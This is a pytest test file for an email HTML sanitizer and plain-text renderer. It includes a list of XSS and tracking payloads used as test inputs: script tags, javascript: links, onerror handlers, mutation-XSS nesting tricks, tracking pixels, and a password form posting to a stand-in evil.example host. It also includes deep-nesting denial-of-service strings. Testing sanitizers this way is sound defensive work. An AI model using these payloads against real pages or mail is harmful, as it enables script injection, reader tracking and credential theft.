"""HTML that people write and paste: what is left of it, and how it reads without its form."""

from __future__ import annotations

import re

import pytest

from core.mail.html import MAX_ELEMENTS, clean_html, drop_captions, plain_text, replace_pictures

HARMLESS_TAGS = re.compile(
    r"</?(?:a|b|blockquote|br|code|div|del|em|h[1-3]|hr|i|img|li|ol|p|pre|s|span|strong|sub|sup|table|tbody|td|th"
    r"|thead|tr|u|ul)(?: (?:href|title|rel|align|colspan|rowspan|src|alt|width|height)=\"[^\"]*\")*>"
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>*{background:url(//evil.example)}</style>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover='x()'>text</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='cid:a@b'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif' alt='a>b\"'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='cid:a b'><img src='cid:\"><script>'>",
    "<img srcset='https://evil.example/1x 1x' src='cid:a@b' style='x' loading=eager>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=p type=password><button>x</button></form>",
    "<iframe src=https://evil.example srcdoc='<script>x</script>'></iframe>",
    "<object data=x><embed src=x><applet code=x>",
    "<base href=https://evil.example/><link rel=stylesheet href=x>",
    "<!-- <script>alert(1)</script> --><!--[if mso]><script>x</script><![endif]-->",
    "<![CDATA[<script>x</script>]]><?xml version='1.0'?>",
    "<div style='background:url(https://evil.example)' class=x id=y>x</div>",
    "<b><i></b></i><p><div></p></div></table></td><li>",
    "<table><tr><td><table><script>x</script></table>",
    "<title><img src=x onerror=x></title><textarea><script>x</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "\0<scr\0ipt>x</scr\0ipt>",
    "<a href='https://good.example' target=_blank>x</a>",
]


@pytest.mark.parametrize("pictures", [False, True])
@pytest.mark.parametrize("html", HOSTILE, ids=lambda text: ascii(text[:30]))
def test_of_hostile_html_only_text_form_and_links_are_left(html: str, pictures: bool) -> None:
    cleaned = clean_html(f"<p>before</p>{html}<p>after</p>", pictures=pictures)
    for tag in re.findall(r"<[^>]*>", re.sub(r'"[^"]*"', '""', cleaned)):
        assert HARMLESS_TAGS.fullmatch(tag), cleaned
    for address in re.findall(r'(?:href|src)="([^"]*)"', cleaned):
        assert re.match(r"https://good\.example$|cid:a@b$", address), cleaned
    assert not re.search(r"alert|evil\.example|<script", re.sub(r"&lt;.*?&gt;|>[^<]*<", "><", cleaned))
    assert ("<img" in cleaned) <= pictures
    assert clean_html(cleaned, pictures=pictures) == cleaned
    assert "before" in plain_text(cleaned)


def test_only_pictures_of_the_mail_pass_with_their_measures() -> None:
    html = '<img src="cid:a.1@picture.invalid" alt="A &lt;b&gt;" width="120" height="1e9" title="x">'
    assert (
        clean_html(html, pictures=True) == '<img src="cid:a.1@picture.invalid" alt="A &lt;b&gt;" width="120">'
    )
    assert clean_html(html) == ""


def test_addresses_of_pictures_are_replaced_and_words_stay() -> None:
    html = '<img src="/one" alt="mine &quot;&gt;"><img src="/two"><img alt="none">'
    replaced = replace_pictures(
        html, lambda address: (f"cid:{address[1:]}@x", "words", None) if address else None
    )
    assert replaced == '<img src="cid:one@x" alt="mine &quot;&gt;"><img src="cid:two@x" alt="words">'


def test_names_below_pictures_go_and_typed_captions_stay() -> None:
    figure = '<figure><img src="/x"><figcaption class="attachment__caption{}">{}</figcaption></figure>'
    assert "12 KB" not in drop_captions(figure.format("", "photo.png <span>12 KB</span>"))
    assert "<br>Our shop" in drop_captions(figure.format(" attachment__caption--edited", "Our shop"))


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000 + "x",
        "<blockquote>" * 80_000 + "x",
        "<ul><li>" * 50_000 + "x",
        "<table><tr><td>" * 30_000 + "x",
        "<a href=x>" * 50_000 + "x",
        "<b>" * 200_000 + "x",
        "<p>" * 100_000 + "x",
        "</div>" * 150_000 + "x",
        "<" * 500_000 + "x",
        "<img src='" * 50_000 + "x",
        "<img src='\"" * 50_000 + "x",
        "<div title='<'>" * 60_000 + "x",
        '<div title=a">' * 60_000 + "x",
        "<div/x='" * 60_000 + ">" * 60_000,
        "<!--" * 200_000 + "-->x",
        "x<br>" * 100_000,
        "<pre>" + "\n" * 500_000 + "x</pre>",
        "<table>" + "<tr>" * 100 + "<td>x</td>" * 80_000,
    ],
    ids=lambda text: ascii(text[:12]),
)
def test_a_megabyte_of_broken_nesting_is_cut_to_a_depth_that_the_cleaner_can_bear(html: str) -> None:
    # The cleaner's time grows with the square of the depth: it is the depth that has to stay within bounds.
    # Mostly the same, which is then looked at once: making a megabyte plain takes its time.
    for cleaned in {
        clean_html(html, pictures=True),
        clean_html(drop_captions(replace_pictures(html, lambda _address: None)), pictures=True),
    }:
        assert depth_of(cleaned) <= MAX_ELEMENTS * len(("table", "tbody", "tr", "td"))
        assert len(plain_text(cleaned)) <= len(html) + 1


def depth_of(html: str) -> int:
    """Return how many elements of clean HTML stand inside each other where it is deepest."""
    depth = deepest = 0
    for closing, name in re.findall(r"<(/?)([a-z0-9]+)", html):
        depth += 0 if name in {"br", "hr", "img"} else -1 if closing else 1
        deepest = max(deepest, depth)
    return deepest


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("", "\n"),
        ("<div>Hello <strong>you</strong></div>", "Hello you\n"),
        ("<div>one<br><br>two<br></div><div>three</div>", "one\n\ntwo\nthree\n"),
        ("<p>one</p><p>two</p>", "one\n\ntwo\n"),
        ("<h1>Title</h1><p>text</p><h3>Third</h3>", "Title\n=====\n\ntext\n\nThird\n"),
        ("<h2>Part é</h2>text", "Part é\n------\n\ntext\n"),
        ("<ul><li>one</li><li>two<ul><li>in</li></ul></li></ul>", "* one\n* two\n  * in\n"),
        ("<p>a</p><ol><li>one</li><li>two<br>lines</li></ol>b", "a\n\n1. one\n2. two\n   lines\n\nb\n"),
        ("<blockquote>said<br>twice<blockquote>before</blockquote></blockquote>", "> said\n> twice\n>\n> > before\n"),
        ('<a href="https://x.example/a?b=1">our page</a>', "our page <https://x.example/a?b=1>\n"),
        ('<a href="https://x.example/">x.example</a>', "x.example\n"),
        ('<a href="mailto:a@b.example">a@b.example</a>', "a@b.example\n"),
        ('<a href="mailto:a@b.example">Ann</a>', "Ann <a@b.example>\n"),
        ('<a href="https://x.example"><img src="cid:a@b" alt="Logo"></a>', "[Logo] <https://x.example>\n"),
        ('before <img src="cid:a@b" alt="our shop"> after <img src="cid:c@d">', "before [our shop] after\n"),
        ("<pre>a\n  b</pre>c", "a\n  b\n\nc\n"),
        ("a<hr>b", "a\n\n" + "-" * 40 + "\n\nb\n"),
        ("<div>Bye</div><div>-- <br>Ann<br>Company</div>", "Bye\n-- \nAnn\nCompany\n"),
        ("a   b\n c&nbsp;: d &amp; &lt;e&gt;", "a b c : d & <e>\n"),
        ("<span>שלום</span> <b>👩‍🚀</b> e\u0301", "שלום 👩‍🚀 e\u0301\n"),
    ],
)  # fmt: skip
def test_the_plain_text_reads_well(html: str, text: str) -> None:
    assert plain_text(html) == text
    assert plain_text(clean_html(html, pictures=True)) == text


def test_a_table_stands_in_columns() -> None:
    html = (
        "<table><thead><tr><th>Article</th><th align=right>Total</th></tr></thead><tbody>"
        "<tr><td>Café</td><td align=right>9.00</td></tr><tr><td>日本</td><td align=right>120.00</td></tr>"
        "</tbody></table>"
    )
    assert plain_text(clean_html(html)) == "Article   Total\nCafé       9.00\n日本     120.00\n"


def test_a_table_that_only_places_things_is_read_cell_by_cell() -> None:
    html = "<table><tr><td><p>one</p><p>two</p></td><td>three</td></tr></table>"
    assert plain_text(clean_html(html)) == "one\n\ntwo\nthree\n"
